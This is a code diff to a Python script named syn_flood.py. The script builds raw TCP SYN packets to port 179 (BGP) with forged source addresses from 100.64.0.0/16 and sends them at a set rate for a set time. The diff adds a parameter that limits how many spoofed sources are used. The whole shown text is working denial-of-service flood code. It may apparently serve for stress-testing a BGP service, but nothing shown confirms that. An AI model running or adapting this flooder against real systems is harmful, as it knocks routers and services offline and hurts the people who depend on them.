@@ -1,8 +1,8 @@
 # SPDX-License-Identifier: Apache-2.0
-"""SYNs to port 179, each from another address: `syn_flood.py TARGET RATE SECONDS`. Nothing of the
-sender's answers what comes back: the addresses are nobody's. Says how many a second it sent."""
+"""SYNs to port 179, each from another address of 100.64.0.0/16, or of the first of these:
+`syn_flood.py TARGET RATE SECONDS [SOURCES]`. Nothing of the sender's answers what comes back: the
+addresses are nobody's. Says how many a second it sent."""
 
-import os
 import random
 import socket
 import struct
@@ -30,11 +30,20 @@ def syn(source: bytes, target: bytes, port: int) -> bytes:
     return header + TCP_HEADER.pack(*words, summed, 0)
 
 
+def source(number: int) -> bytes:
+    return b"\x64\x40" + number.to_bytes(2, "big")
+
+
 def main() -> None:
     target, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
+    sources = int(sys.argv[4]) if len(sys.argv) > 4 else 1 << 16
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     packets = [
-        syn(b"\x64\x40" + os.urandom(2), socket.inet_aton(target), random.randrange(1024, 65536))
+        syn(
+            source(random.randrange(sources)),
+            socket.inet_aton(target),
+            random.randrange(1024, 65536),
+        )
         for _ in range(50_000)
     ]
     begin, sent = time.monotonic(), 0
